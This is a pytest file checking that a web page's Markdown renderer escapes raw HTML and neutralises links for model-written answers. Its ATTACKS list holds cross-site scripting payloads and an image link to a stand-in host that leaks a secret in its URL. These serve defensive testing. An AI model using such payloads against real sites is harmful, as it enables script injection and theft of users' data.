"""The page's Markdown: markdown-it-py parses it with raw HTML off, nh3 sanitises what it made.

Whatever the model writes (and the controller data it quotes) is text: no script, no handler, no link
or image that could send the reader or their data elsewhere; what remains is the formatting an answer
needs, tables included (scrollable, keyboard-focusable), headings under the page's one <h1>.
"""

from __future__ import annotations

import re

import pytest

from adapters.web.render import markdown

ALLOWED = {"p", "br", "strong", "em", "s", "code", "pre", "blockquote", "hr", "ul", "ol", "li", "div"} | {
    "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"
}  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png?leak=secret)",
    "<https://evil.example/>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<iframe src=//evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '**<b onmouseover="alert(1)">x</b>**',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "# <img src=x onerror=alert(1)>",
]


def tags(html: str) -> set[str]:
    return set(re.findall(r"<(\w+)", html))


@pytest.mark.parametrize("source", ATTACKS)
def test_no_markup_from_the_text_survives(source: str) -> None:
    html = markdown(source)
    assert tags(html) <= ALLOWED, html
    for tag in re.findall(r"<[^>]+>", html):
        assert set(re.findall(r"\s([\w-]+)=", tag)) <= {"class", "tabindex", "role", "aria-label"}, tag
    assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text() -> None:
    html = markdown("<script>alert(1)</script> and <b>bold?</b>")
    assert html == "<p>&lt;script&gt;alert(1)&lt;/script&gt; and &lt;b&gt;bold?&lt;/b&gt;</p>"


def test_links_and_images_stay_as_written() -> None:
    html = markdown("see [the docs](https://example.com/x) and ![chart](https://example.com/c.png)")
    assert html == "<p>see [the docs](https://example.com/x) and ![chart](https://example.com/c.png)</p>"


def test_the_formatting_an_answer_needs() -> None:
    html = markdown(
        "## Pools\n\n**2** of *5* are `down`, ~~was 3~~\n\n> from the controller\n\n"
        "1. first\n2. second\n\n---\n\n```\nshow pool web-pool\n```"
    )
    assert html == (
        "<h3>Pools</h3>"
        "<p><strong>2</strong> of <em>5</em> are <code>down</code>, <s>was 3</s></p>"
        "<blockquote><p>from the controller</p></blockquote>"
        "<ol><li>first</li><li>second</li></ol><hr>"
        "<pre><code>show pool web-pool</code></pre>"
    )


def test_headings_stay_under_the_pages_h1() -> None:
    html = markdown("# One\n\n###### Six")
    assert html == "<h2>One</h2><h6>Six</h6>"


def test_a_table_scrolls_in_a_focusable_region_and_keeps_its_alignment() -> None:
    html = markdown("| vs | vip | conns |\n|:---|:---:|---:|\n| vs-web | 10.200.0.1:443 | 12 |")
    assert html.startswith('<div class="table-wrap" tabindex="0" role="region" aria-label="Table"><table>')
    assert html.endswith("</table></div>")
    assert '<th class="align-left">vs</th><th class="align-center">vip</th>' in html
    assert '<td class="align-right">12</td>' in html
    assert "style=" not in html  # the page's CSP forbids inline styles: alignment is a class


def test_text_is_escaped_as_the_templates_escape_it() -> None:
    html = markdown('a "quoted" <name> & more')
    assert html == "<p>a &#34;quoted&#34; &lt;name&gt; &amp; more</p>"


def test_a_single_newline_is_a_line_break() -> None:
    assert markdown("line one\nline two") == "<p>line one<br>line two</p>"


def test_names_with_underscores_and_stars_are_left_alone() -> None:
    html = markdown("pool web_pool_1 and 2 * 3 * 4 and `a **b** c`")
    assert html == "<p>pool web_pool_1 and 2 * 3 * 4 and <code>a **b** c</code></p>"
